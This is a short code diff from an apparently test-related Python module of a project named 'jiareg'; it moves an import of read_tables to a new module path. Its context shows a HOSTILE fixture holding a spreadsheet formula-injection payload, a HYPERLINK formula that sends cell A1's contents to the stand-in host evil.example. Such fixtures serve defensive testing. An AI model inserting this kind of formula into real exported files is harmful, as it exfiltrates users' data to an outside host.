@@ -20,7 +20,7 @@ from jiareg.formats.cells import table_text
 from jiareg.ingest import read_template
 from jiareg.services.export import export_registry
 from jiareg.services.imports import import_path
-from jiareg.store.snapshot import read_tables
+from jiareg.store.tables import read_tables
 
 HOSTILE = {
     "term": '=HYPERLINK("http://evil.example/?x="&A1,"details")',
